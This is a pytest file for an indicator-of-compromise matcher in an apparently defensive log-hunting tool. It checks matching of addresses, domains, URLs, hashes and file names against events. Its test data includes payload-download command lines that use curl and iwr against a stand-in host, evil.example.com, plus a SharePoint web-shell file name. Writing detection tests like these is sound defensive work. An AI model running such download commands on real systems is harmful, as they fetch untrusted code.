"""Indicators matched over events (warroom.hunt.matchers.ioc)."""

from __future__ import annotations

import ipaddress
from datetime import UTC, datetime
from typing import Any

import pytest

from tests.hunt.tables import as_table, without_nulls
from warroom.hunt.finding import Finding, Level
from warroom.hunt.matchers.ioc import IocMatcher
from warroom.hunt.source import Event, LogSource, Origin
from warroom.intel import Indicator, IndicatorType, normalise

T = IndicatorType
SHA256 = "92bb4ddb98eeaf11fc15bb32e71d0a63256a0ed826a03ba293ce3a8bf057a514"
SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
MD5 = "d41d8cd98f00b204e9800998ecf8427e"
WHEN = datetime(2025, 7, 18, 16, 6, 14, tzinfo=UTC)


def ioc(kind: IndicatorType, value: str) -> Indicator:
    return Indicator(kind, normalise(kind, value), "iocs.txt:1")


def event(position: int = 1, /, **fields: Any) -> Event:
    return Event(fields, WHEN, "sp01", LogSource(category="webserver"), Origin("u.log", position))


def scan(indicators: list[Indicator], *events: Event) -> list[Finding]:
    """The findings over EVENTS, read as Events and as a table: both must agree."""
    matcher = IocMatcher(indicators)
    found = list(matcher.scan(list(events)))
    assert without_nulls(list(matcher.scan_table(as_table(events)))) == without_nulls(found)
    return found


def hits(indicators: list[Indicator], *events: Event) -> list[tuple[int, str]]:
    return [(f.origin.position, f.rule_id) for f in scan(indicators, *events)]


def test_it_matches_an_address_and_describes_the_finding() -> None:
    seen = event(7, **{"c-ip": "107.191.58.76", "s-ip": "10.0.0.5", "sc-status": "200"})
    (finding,) = scan([ioc(T.IPV4, "107.191.58.76")], seen)
    assert finding.matcher == "ioc"
    assert finding.rule_id == "ioc:ipv4-addr:107.191.58.76"
    assert finding.level is Level.HIGH
    assert (finding.time, finding.host, finding.origin) == (WHEN, "sp01", seen.origin)
    assert finding.fields == seen.fields
    assert finding.detail == "107.191.58.76 in c-ip (indicator from iocs.txt:1)"


@pytest.mark.parametrize(
    ("value", "matches"),
    [
        ("10.0.0.0", True),
        ("10.0.0.255", True),
        ("10.0.1.0", False),
        ("9.255.255.255", False),
        ("10.0.0.17:443", True),
        ("http://10.0.0.9/x", True),
        ("110.0.0.1", False),
    ],
)
def test_ipv4_networks_match_their_edges_only(value: str, matches: bool) -> None:
    found = hits([ioc(T.IPV4, "10.0.0.0/24")], event(DestinationIp=value))
    assert found == ([(1, "ioc:ipv4-addr:10.0.0.0/24")] if matches else [])


@pytest.mark.parametrize(
    ("network", "value", "matches"),
    [
        ("2001:db8::/32", "2001:db8:ffff:ffff:ffff:ffff:ffff:ffff", True),
        ("2001:db8::/32", "2001:db9::", False),
        ("2001:db8:0:0:1::/80", "2001:db8::1:0:0:5", True),
        ("2001:db8:0:0:1::/80", "2001:db8::2:0:0:5", False),
        ("2001:db8::1/128", "2001:DB8:0:0:0:0:0:1", True),
        ("fe80::/10", "[fe80::1]:443", True),
    ],
)
def test_ipv6_networks_match_across_both_halves(network: str, value: str, matches: bool) -> None:
    found = hits([ioc(T.IPV6, network)], event(SourceIp=value))
    assert bool(found) is matches


def test_an_address_matches_in_every_field_once_per_event() -> None:
    seen = event(**{"c-ip": "1.2.3.4", "cs(Referer)": "http://1.2.3.4/", "cs-referer": "1.2.3.4"})
    (finding,) = scan([ioc(T.IPV4, "1.2.3.4"), ioc(T.IPV4, "1.2.3.0/24")][:1], seen)
    assert finding.detail.startswith("1.2.3.4 in c-ip, cs(Referer), cs-referer ")


def test_an_address_inside_a_network_indicator_and_exact_gives_two_findings() -> None:
    found = hits([ioc(T.IPV4, "1.2.3.4"), ioc(T.IPV4, "1.2.3.0/24")], event(IpAddress="1.2.3.4"))
    assert sorted(rule for _, rule in found) == [
        "ioc:ipv4-addr:1.2.3.0/24",
        "ioc:ipv4-addr:1.2.3.4",
    ]


@pytest.mark.parametrize(
    ("fields", "matches"),
    [
        ({"QueryName": "evil.example.com"}, True),
        ({"QueryName": "EVIL.example.com."}, True),
        ({"cs-host": "a.b.evil.example.com:443"}, True),
        ({"CommandLine": "curl https://x.evil.example.com/payload -o a"}, True),
        ({"cs(Referer)": "http://user@evil.example.com:8080/"}, True),
        ({"QueryName": "notevil.example.com"}, False),
        ({"QueryName": "evil.example.com.au"}, False),
        ({"CommandLine": "ping evil.example.community"}, False),
    ],
)
def test_domains_match_hosts_subdomains_and_urls(fields: dict[str, str], matches: bool) -> None:
    assert bool(hits([ioc(T.DOMAIN, "evil.example.com")], event(**fields))) is matches


@pytest.mark.parametrize(
    ("value", "matches"),
    [
        ("HTTP://Evil.Example.com/_layouts/15/a.aspx?x=1", True),
        ("powershell iwr 'https://evil.example.com/_layouts/15/a.aspx?x=1'", False),
        ("iwr http://evil.example.com/_layouts/15/a.aspx?x=1 -o b", True),
        ("http://evil.example.com/_layouts/15/a.aspx?x=2", False),
    ],
)
def test_urls_match_normalised(value: str, matches: bool) -> None:
    indicator = ioc(T.URL, "http://evil.example.com/_layouts/15/a.aspx?x=1")
    assert bool(hits([indicator], event(CommandLine=value))) is matches


def test_hashes_match_alone_and_inside_sysmon_hashes() -> None:
    indicators = [ioc(T.SHA256, SHA256), ioc(T.MD5, MD5), ioc(T.SHA1, SHA1)]
    sysmon = event(
        1, Hashes=f"SHA1={SHA1.upper()},MD5={MD5.upper()},SHA256={SHA256.upper()},IMPHASH={MD5}"
    )
    alone = event(2, sha256=SHA256)
    found = sorted(hits(indicators, sysmon, alone))
    assert found == [
        (1, f"ioc:file:hashes.MD5:{MD5}"),
        (1, f"ioc:file:hashes.SHA-1:{SHA1}"),
        (1, f"ioc:file:hashes.SHA-256:{SHA256}"),
        (2, f"ioc:file:hashes.SHA-256:{SHA256}"),
    ]


def test_hashes_inside_longer_hex_do_not_match() -> None:
    assert hits([ioc(T.MD5, MD5)], event(Data=MD5 + "00")) == []


def test_an_imphash_is_not_a_file_md5() -> None:
    # Sysmon's import hash has the length of an MD5 but is not the file's hash.
    assert hits([ioc(T.MD5, MD5)], event(Hashes=f"SHA1={SHA1},IMPHASH={MD5.upper()}")) == []


@pytest.mark.parametrize(
    ("fields", "matches"),
    [
        ({"cs-uri-stem": "/_layouts/15/spinstall0.aspx"}, True),
        ({"cs-uri-stem": "/_layouts/15/SPINSTALL0.ASPX"}, True),
        ({"TargetFilename": r"C:\Program Files\x\TEMPLATE\LAYOUTS\spinstall0.aspx"}, True),
        ({"url": "http://sp/_layouts/15/spinstall0.aspx?x=1"}, True),
        ({"OriginalFileName": "spinstall0.aspx"}, True),
        ({"cs-uri-stem": "/_layouts/15/spinstall0.aspx.bak"}, False),
        ({"cs-uri-stem": "/_layouts/15/xspinstall0.aspx"}, False),
    ],
)
def test_file_names_match_the_basename(fields: dict[str, str], matches: bool) -> None:
    assert bool(hits([ioc(T.FILE_NAME, "spinstall0.aspx")], event(**fields))) is matches


def test_email_addresses_match_case_insensitively() -> None:
    found = hits([ioc(T.EMAIL, "Ops@evil.example")], event(From="<ops@EVIL.example>"))
    assert found == [(1, "ioc:email-addr:Ops@evil.example")]


def test_non_string_fields_and_empty_batches_are_fine() -> None:
    matcher = IocMatcher([ioc(T.IPV4, "1.2.3.4")])
    assert list(matcher.scan([])) == []
    assert list(matcher.scan([event(EventID=4624, Port=443, Empty="")])) == []
    assert list(IocMatcher([]).scan([event(x="1.2.3.4")])) == []


def test_it_scans_batch_after_batch() -> None:
    matcher = IocMatcher([ioc(T.DOMAIN, "evil.example")])
    first = list(matcher.scan([event(1, QueryName="evil.example")]))
    second = list(matcher.scan([event(2, q="x"), event(3, QueryName="a.evil.example")]))
    assert [f.origin.position for f in first + second] == [1, 3]


def test_ten_thousand_indicators_over_ten_thousand_events() -> None:
    # A speed sanity check, not a timed test: the joins must not go quadratic.
    indicators = [ioc(T.IPV4, str(ipaddress.IPv4Address(0x0B000000 + 7 * n))) for n in range(5000)]
    indicators += [ioc(T.DOMAIN, f"bad{n}.example") for n in range(4000)]
    indicators += [ioc(T.SHA256, f"{n:064x}") for n in range(1000)]
    indicators += [ioc(T.IPV4, f"172.{n}.0.0/16") for n in range(16, 32)]
    events = [
        event(
            n,
            **{
                "c-ip": str(ipaddress.IPv4Address(0x0B000000 + n)),
                "cs-host": f"www.bad{n}.example",
                "cs-uri-stem": f"/page{n}.aspx",
                "cs(User-Agent)": "Mozilla/5.0+(Windows+NT+10.0)",
                "s-ip": f"172.20.{n % 256}.1",
            },
        )
        for n in range(10_000)
    ]
    found = list(IocMatcher(indicators).scan(events))
    by_kind = {
        kind: sum(f.rule_id.startswith(f"ioc:{kind}:") for f in found)
        for kind in ("ipv4-addr", "domain-name")
    }
    # c-ip: every 7th address up to 35,000 (all 10,000 events); s-ip: all in 172.16/12 ranges;
    # domains: bad0..bad3999 as parents of www.badN.example.
    assert by_kind == {"ipv4-addr": len(range(0, 10_000, 7)) + 10_000, "domain-name": 4000}
    assert len({(f.origin.position, f.rule_id) for f in found}) == len(found)
